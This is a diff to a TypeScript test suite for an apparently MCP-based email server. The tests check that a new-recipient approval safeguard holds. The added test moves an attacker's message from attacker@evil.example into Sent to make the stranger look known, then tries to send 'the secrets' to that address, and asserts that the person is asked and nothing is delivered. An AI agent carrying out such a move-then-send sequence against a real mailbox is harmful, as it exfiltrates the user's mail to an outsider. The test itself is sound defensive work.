@@ -5,7 +5,9 @@
 // updating it — is followed by a send to the stranger, which is still held (this client cannot be
 // asked) and which a dry run says would ask. An address in \Sent from before the connect is known.
 import { describe, expect, test } from "bun:test";
-import type { Client } from "@modelcontextprotocol/sdk/client/index.js";
+import { Client } from "@modelcontextprotocol/sdk/client/index.js";
+import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
+import { ElicitRequestSchema, type ElicitRequest } from "@modelcontextprotocol/sdk/types.js";
 import { randomBytes } from "node:crypto";
 import { verifyLogin } from "../../../src/mail/imap/verify.ts";
 import { findBySubject } from "../../support/imap.ts";
@@ -18,13 +20,17 @@ const fx = aliceServer();
 const tag = () => randomBytes(4).toString("hex");
 
 /** A "new_recipients" grant whose \Sent mark is taken by the connect's own login, as the setup form does. */
-async function connectedClient(): Promise<Client> {
+async function markedToken(): Promise<string> {
   const account = fx.account();
   const proof = await verifyLogin(account);
   if (!proof) throw new Error("verifyLogin returned no proof");
   const { token, grantId } = await issueTestGrant(fx.srv.deps, account, "email:read email:write", undefined, "new_recipients");
   await fx.srv.deps.store.sentMarks.keepFirst(grantId, proof.sentMark);
-  const client = await connectClient(fx.srv.mcpUrl, token);
+  return token;
+}
+
+async function connectedClient(): Promise<Client> {
+  const client = await connectClient(fx.srv.mcpUrl, await markedToken());
   fx.open.push(client);
   return client;
 }
@@ -88,5 +94,23 @@ describe("new_recipients: no tool sequence makes a stranger known", () => {
     expect(res.structuredContent).toMatchObject({ status: "held_as_draft" });
     expect(delivered(subject)).toHaveLength(0);
     await expectStillAsks(client, attacker);
+  });
+
+  test("an elicitation-capable client, after the move route: the person is asked; declining sends nothing", async () => {
+    const asked: Array<ElicitRequest["params"]> = [];
+    const client = new Client({ name: "elicit", version: "0" }, { capabilities: { elicitation: {} } });
+    client.setRequestHandler(ElicitRequestSchema, async (req) => (asked.push(req.params), { action: "decline" }));
+    await client.connect(new StreamableHTTPClientTransport(new URL(fx.srv.mcpUrl), { requestInit: { headers: { Authorization: `Bearer ${await markedToken()}` } } }));
+    fx.open.push(client);
+    const attacker = `attacker-${tag()}@evil.example`;
+    const filed = `please file ${tag()}`;
+    await fx.h.dovecot.deliver("alice", plainText({ from: attacker, to: attacker, subject: filed }));
+    await callOk(client, "move_email", { folder: "INBOX", uids: [await uidOf("INBOX", filed)], destination: "Sent" });
+    const subject = `exfil ${tag()}`;
+    const res = await call(client, "send_email", { to: attacker, subject, text: "the secrets" });
+    expect(asked).toHaveLength(1);
+    expect(JSON.stringify(asked[0])).toContain(attacker);
+    expect(res.structuredContent).not.toMatchObject({ status: "sent" });
+    expect(delivered(subject)).toHaveLength(0);
   });
 });
